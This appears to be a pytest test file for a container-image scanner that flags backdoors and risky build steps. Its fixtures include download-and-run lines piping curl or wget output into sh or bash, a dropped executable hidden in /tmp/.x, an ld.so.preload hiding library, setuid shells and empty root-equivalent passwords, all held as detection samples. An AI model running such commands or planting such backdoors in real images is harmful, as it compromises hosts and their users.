"""LayerDetector and ImageDetector heuristics, the registry and catalog, and one image end to end."""

from __future__ import annotations

import pytest

from explorer.detectors.base import FileDetector, HistoryItem, ImageDetector, LayerDetector, LayerDelta
from explorer.detectors.heuristics import HEURISTICS, heuristic_rule_catalog
from explorer.detectors.heuristics.caches import PackageCaches
from explorer.detectors.heuristics.image_config import BuildHistoryRisks, ConfigRisks, unpinned
from explorer.detectors.heuristics.setuid import SetuidAdded
from explorer.detectors.heuristics.ssh_keys import AuthorizedKeysChanged
from explorer.core.findings import CATEGORIES, SEVERITIES
from explorer.core.model import EntryKind, FileEntry, ImageConfig

CATALOG = {rule.id: rule for rule in heuristic_rule_catalog()}


def entry(path: str, kind: EntryKind = EntryKind.FILE, *, mode: int = 0o644, size: int = 10, uid: int = 0,
          layer: int = 1, digest: str = "a") -> FileEntry:
    return FileEntry(path=path, kind=kind, layer=layer, mode=mode, size=size, uid=uid, digest=digest)


def layer_matches(detector: LayerDetector, added=(), modified=(), deleted=()) -> dict[str, tuple[str, str]]:
    """{path: (rule id, severity)} of what the detector yields for one layer."""
    view = LayerDelta(index=1, created_by="RUN x", added=list(added), modified=list(modified), deleted=list(deleted))
    out = {}
    for found_entry, match in detector.scan_layer(view):
        assert match.rule_id in CATALOG
        out[found_entry.path] = (match.rule_id, match.severity)
    return out


def config_matches(config: ImageConfig) -> dict[str, str]:
    found = list(ConfigRisks().scan_config(config))
    assert all(match.rule_id in CATALOG for match in found)
    return {match.rule_id: match.severity for match in found}


def history_matches(created_by: str) -> dict[str, str]:
    found = list(BuildHistoryRisks().scan_history(HistoryItem(position=3, created_by=created_by, layer=2)))
    assert all(match.rule_id in CATALOG and match.line == 3 for match in found)
    return {match.rule_id: match.severity for match in found}


# -- registry and catalog -----------------------------------------------------------------------

def test_every_heuristic_has_a_role_and_builds_with_no_arguments():
    roles = (FileDetector, LayerDetector, ImageDetector)
    for cls in HEURISTICS:
        detector = cls()
        expected = 2 if cls is SetuidAdded else 1  # notes shell content in the pass, reports per layer
        assert sum(isinstance(detector, role) for role in roles) == expected, cls
        assert detector.name and cls.RULES
    assert len({cls().name for cls in HEURISTICS}) == len(HEURISTICS)


def test_catalog_covers_every_rule_once_with_valid_values():
    catalog = heuristic_rule_catalog()
    assert len({rule.id for rule in catalog}) == len(catalog) >= 20
    for rule in catalog:
        rid, category, severity, title, description, attribution = rule
        assert attribution == ()
        assert rid.split(".")[0] == category and category in CATEGORIES and severity in SEVERITIES
        assert title and description
        if category == "misconfig" and not rid.startswith("misconfig.container."):
            # what an image asks for is at most medium; what a live container was granted (the Docker
            # socket, --privileged, host namespaces) already holds the host and may be high
            assert severity in ("medium", "low", "info")
    assert {r.id for cls in HEURISTICS for r in cls.RULES} == set(CATALOG)


# -- authorized_keys -----------------------------------------------------------------------------

def test_authorized_keys_added_for_root_and_changed_for_a_user():
    found = layer_matches(AuthorizedKeysChanged(),
                          added=[entry("/root/.ssh/authorized_keys", size=400)],
                          modified=[(entry("/home/bob/.ssh/authorized_keys2", size=100, layer=0),
                                     entry("/home/bob/.ssh/authorized_keys2", size=500, digest="b"))])
    assert found == {"/root/.ssh/authorized_keys": ("backdoor.ssh.authorized-keys", "high"),
                     "/home/bob/.ssh/authorized_keys2": ("backdoor.ssh.authorized-keys", "medium")}
    service = layer_matches(AuthorizedKeysChanged(), added=[entry("/var/lib/postgresql/.ssh/authorized_keys")])
    assert service["/var/lib/postgresql/.ssh/authorized_keys"][1] == "high"


def test_authorized_keys_negatives():
    assert layer_matches(AuthorizedKeysChanged(), added=[entry("/root/.ssh/known_hosts"),
                                                         entry("/root/.ssh", EntryKind.DIR, size=0)],
                         deleted=[entry("/root/.ssh/authorized_keys", EntryKind.WHITEOUT)]) == {}
    empty = layer_matches(AuthorizedKeysChanged(), added=[entry("/root/.ssh/authorized_keys", size=0)])
    assert empty == {"/root/.ssh/authorized_keys": ("backdoor.ssh.authorized-keys", "info")}


# -- setuid --------------------------------------------------------------------------------------

@pytest.mark.parametrize("path, mode, rule, severity", [
    ("/usr/bin/bash", 0o4755, "backdoor.setuid.shell", "high"),
    ("/tmp/.x/sh", 0o4755, "backdoor.setuid.shell", "critical"),
    ("/usr/local/bin/python3.11", 0o6755, "backdoor.setuid.shell", "high"),
    ("/var/tmp/helper", 0o2755, "backdoor.setuid.hidden-or-temp", "high"),
    ("/usr/bin/passwd", 0o4755, "suspicious.setuid.added", "info"),
    ("/usr/local/bin/tool", 0o4755, "suspicious.setuid.added", "low"),
    ("/srv/app/tool", 0o4750, "suspicious.setuid.added", "medium"),
])
def test_setuid_added(path, mode, rule, severity):
    assert layer_matches(SetuidAdded(), added=[entry(path, mode=mode)]) == {path: (rule, severity)}


def test_setuid_bit_turned_on_fires_and_plain_upgrades_do_not():
    old, new = entry("/bin/dash", mode=0o755, layer=0), entry("/bin/dash", mode=0o4755)
    assert layer_matches(SetuidAdded(), modified=[(old, new)]) == {"/bin/dash": ("backdoor.setuid.shell", "high")}
    view = LayerDelta(index=1, created_by="RUN chmod u+s /bin/dash", modified=[(old, new)])
    [(_entry, match)] = list(SetuidAdded().scan_layer(view))
    assert match.evidence == "setuid 4755, owner uid 0, bit turned on (was 0755)"
    upgraded = (entry("/usr/bin/su", mode=0o4755, layer=0), entry("/usr/bin/su", mode=0o4755, digest="b"))
    assert layer_matches(SetuidAdded(), modified=[upgraded]) == {}
    assert layer_matches(SetuidAdded(), added=[entry("/var/mail", EntryKind.DIR, mode=0o2775),
                                               entry("/usr/bin/ls", mode=0o755)]) == {}


# -- package caches ------------------------------------------------------------------------------

def test_apt_lists_and_pip_cache_left_behind_are_info_once_per_cache():
    found = layer_matches(PackageCaches(), added=[
        entry("/var/lib/apt/lists", EntryKind.DIR, size=0),
        entry("/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease", size=1000),
        entry("/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages", size=9000),
        entry("/root/.cache/pip/http-v2/a/b/c", size=500),
    ])
    assert found == {"/var/lib/apt/lists": ("misconfig.caches.package-cache", "info"),
                     "/root/.cache/pip/http-v2/a/b/c": ("misconfig.caches.package-cache", "info")}


def test_cleaned_apt_dirs_are_quiet():
    assert layer_matches(PackageCaches(), added=[entry("/var/lib/apt/lists/lock", size=0),
                                                 entry("/var/lib/apt/lists/partial", EntryKind.DIR, size=0),
                                                 entry("/var/cache/apt/archives/lock", size=0)]) == {}


# -- config --------------------------------------------------------------------------------------

@pytest.mark.parametrize("user", ["", "root", "0", "0:0", "root:root"])
def test_running_as_root_is_low(user):
    assert config_matches(ImageConfig(id="sha256:x", user=user)) == {"misconfig.config.root-user": "low"}


def test_non_root_user_and_plain_config_are_quiet():
    config = ImageConfig(id="sha256:x", user="app:app", env=("PATH=/usr/bin", "LANG=C.UTF-8"),
                         volumes=("/data",), labels=(("maintainer", "me"),), cmd=("python3", "app.py"))
    assert config_matches(config) == {}


def test_docker_host_without_tls_and_with_tls():
    plain = ImageConfig(id="sha256:x", user="app", env=("DOCKER_HOST=tcp://docker:2375",))
    assert config_matches(plain) == {"misconfig.config.docker-host-plaintext": "medium"}
    secured = ImageConfig(id="sha256:x", user="app", env=("DOCKER_HOST=tcp://docker:2376", "DOCKER_TLS_VERIFY=1"))
    assert config_matches(secured) == {}


def test_docker_socket_privileged_labels_sensitive_volumes():
    config = ImageConfig(id="sha256:x", user="app", volumes=("/var/run/docker.sock", "/proc", "/data"),
                         labels=(("RUN", "docker run --privileged -v /:/host IMAGE"),))
    found = list(ConfigRisks().scan_config(config))
    kinds = sorted((m.rule_id, m.evidence) for m in found)
    assert ("misconfig.config.privileged-label", "label RUN=docker run --privileged -v /:/host IMAGE") in kinds
    assert ("misconfig.config.sensitive-volume", "VOLUME /proc") in kinds
    assert ("misconfig.config.sensitive-volume", "VOLUME /var/run/docker.sock") in kinds
    assert all(m.severity == "medium" for m in found)
    env = ImageConfig(id="sha256:x", user="app", env=("DOCKER_HOST=unix:///var/run/docker.sock",))
    assert config_matches(env) == {"misconfig.config.docker-socket": "medium"}


def test_entrypoint_that_downloads_and_runs():
    config = ImageConfig(id="sha256:x", user="app", entrypoint=("sh", "-c", "curl -s http://x.example/s | sh"))
    assert config_matches(config) == {"suspicious.history.download-exec": "medium"}


def test_base_image_label_unpinned():
    labels = (("org.opencontainers.image.base.name", "docker.io/library/debian:latest"),)
    assert config_matches(ImageConfig(id="sha256:x", user="app", labels=labels)) == {
        "misconfig.history.unpinned-base": "low"}
    pinned = labels + (("org.opencontainers.image.base.digest", "sha256:abc"),)
    assert config_matches(ImageConfig(id="sha256:x", user="app", labels=pinned)) == {}


# -- history -------------------------------------------------------------------------------------

@pytest.mark.parametrize("line, expected", [
    ("/bin/sh -c curl -fsSL https://get.example.sh | sh", {"suspicious.history.download-exec": "medium"}),
    ("RUN /bin/sh -c wget -O- http://203.0.113.9/i | bash # buildkit", {"suspicious.history.download-exec": "medium"}),
    ("/bin/sh -c wget http://x.example/m -O /usr/local/bin/m && chmod +x /usr/local/bin/m && m",
     {"suspicious.history.download-exec": "medium"}),
    ("/bin/sh -c #(nop) ADD https://example.org/tool.tgz /opt/", {"misconfig.history.remote-add": "low"}),
    ("ADD https://example.org/tool.tgz /opt/ # buildkit", {"misconfig.history.remote-add": "low"}),
    ("FROM docker.io/library/alpine:latest", {"misconfig.history.unpinned-base": "low"}),
    ("/bin/sh -c docker -H unix:///var/run/docker.sock ps", {"misconfig.config.docker-socket": "low"}),
])
def test_history_lines(line, expected):
    assert history_matches(line) == expected


@pytest.mark.parametrize("line", [
    "/bin/sh -c curl -fsSLo /tmp/t.tgz https://x.example/t.tgz && sha256sum -c t.sha && tar xzf /tmp/t.tgz",
    "/bin/sh -c apt-get update && apt-get install -y curl wget && rm -rf /var/lib/apt/lists/*",
    '/bin/sh -c #(nop)  CMD ["bash"]',
    "ADD --checksum=sha256:abc https://example.org/t.tgz /opt/ # buildkit",
    "/bin/sh -c #(nop) ADD file:5b1e63a3cb041177 in / ",
    '/bin/sh -c psql -c "SELECT * FROM users"',
    "FROM docker.io/library/debian:bookworm-slim",
])
def test_benign_history_lines(line):
    assert history_matches(line) == {}


def test_unpinned_reference_forms():
    assert unpinned("debian") == "no tag (latest)"
    assert unpinned("registry:5000/team/app") == "no tag (latest)"
    assert unpinned("debian:12") is None and unpinned("debian@sha256:abc") is None


# -- end to end through the engine ---------------------------------------------------------------

def test_engine_reports_layer_history_and_final_visibility(make_image):
    from explorer.scan.engine import DetectorSet, scan
    from explorer.demo.imagewriter import Entry, ImageSpec, Layer
    from explorer.sources import open_image

    from test_heuristics_content import tiny_elf

    spec = ImageSpec(user="", layers=[
        Layer([Entry.dir("/etc"), Entry.file("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
               Entry.dir("/usr"), Entry.dir("/usr/bin"), Entry.file("/usr/bin/passwd", b"x", mode=0o4755)],
              created_by="ADD rootfs.tar /"),
        Layer([Entry.dir("/tmp", mode=0o1777), Entry.dir("/tmp/.x"),
               Entry.file("/tmp/.x/kworker", tiny_elf(), mode=0o755),
               Entry.file("/etc/ld.so.preload", b"/usr/lib/libhide.so\n"),
               Entry.file("/usr/bin/bash", b"ELF?", mode=0o4755)],
              created_by="/bin/sh -c curl -s http://203.0.113.5/x | sh"),
        Layer([Entry.whiteout("/tmp/.x")], created_by="/bin/sh -c rm -rf /tmp/.x"),
    ])
    detectors = DetectorSet()
    for cls in HEURISTICS:
        detector = cls()
        for role, bucket in ((FileDetector, detectors.file), (LayerDetector, detectors.layer),
                             (ImageDetector, detectors.image)):
            if isinstance(detector, role):
                bucket.append(detector)
    source = open_image(make_image(spec))
    try:
        result = scan(source, detectors)
    finally:
        source.close()
    assert result.errors == []
    by_key = {(f.rule_id, f.path): f for f in result.findings}
    dropped = by_key[("suspicious.dropped.executable", "/tmp/.x/kworker")]
    assert (dropped.layer, dropped.severity, dropped.in_final_image) == (1, "high", False)
    assert dropped.created_by == "/bin/sh -c curl -s http://203.0.113.5/x | sh"
    preload = by_key[("backdoor.preload.ld-so-preload", "/etc/ld.so.preload")]
    assert preload.in_final_image and preload.evidence == "/usr/lib/libhide.so"
    assert by_key[("backdoor.setuid.shell", "/usr/bin/bash")].severity == "high"
    assert by_key[("suspicious.setuid.added", "/usr/bin/passwd")].severity == "info"
    history = [f for f in result.findings if f.rule_id == "suspicious.history.download-exec"]
    assert [(f.source, f.layer) for f in history] == [("history", 1)]
    assert ("misconfig.config.root-user", None) in by_key


def test_setuid_shell_under_an_innocent_name_is_found_by_its_content(make_image):
    from explorer.detectors.registry import build_detectors
    from explorer.scan.engine import scan
    from explorer.demo.imagewriter import Entry, ImageSpec, Layer
    from explorer.sources import open_image

    shell = b"\x7fELF\x02\x01\x01" + bytes(40) + b"BusyBox v1.36.1 (2024) multi-call binary" + bytes(200)
    tool = b"\x7fELF\x02\x01\x01" + bytes(40) + b"mount from util-linux" + bytes(200)
    spec = ImageSpec(layers=[
        Layer([Entry.dir("/usr"), Entry.dir("/usr/bin"), Entry.file("/usr/bin/mount", tool, mode=0o4755)]),
        Layer([Entry.file("/usr/bin/sysinfo", shell, mode=0o4755)], created_by="RUN chmod u+s /usr/bin/sysinfo"),
    ])
    with open_image(make_image(spec)) as source:
        findings = scan(source, build_detectors()).findings
    by_path = {(f.path, f.rule_id): f for f in findings if f.rule_id.startswith(("backdoor.setuid", "suspicious.setuid"))}
    assert by_path[("/usr/bin/sysinfo", "backdoor.setuid.shell")].severity == "high"
    assert by_path[("/usr/bin/mount", "suspicious.setuid.added")].severity == "info"


def test_empty_password_of_any_uid0_account_is_high():
    from explorer.detectors.heuristics.accounts import ShadowPasswords
    from explorer.core.model import EntryKind, FileEntry

    detector = ShadowPasswords()
    passwd = b"root:x:0:0:root:/root:/bin/sh\nsysadm:x:0:0::/root:/bin/sh\nweb:x:33:33::/var/www:/bin/sh\n"
    shadow = b"root:*:19000::::::\nsysadm::19000::::::\nweb::19000::::::\n"
    assert list(detector.scan(FileEntry("/etc/passwd", EntryKind.FILE, 0, size=len(passwd)), passwd)) == []
    found = {m.evidence.split(":")[0]: m.severity
             for m in detector.scan(FileEntry("/etc/shadow", EntryKind.FILE, 0, size=len(shadow)), shadow)}
    assert found == {"sysadm": "high", "web": "medium"}
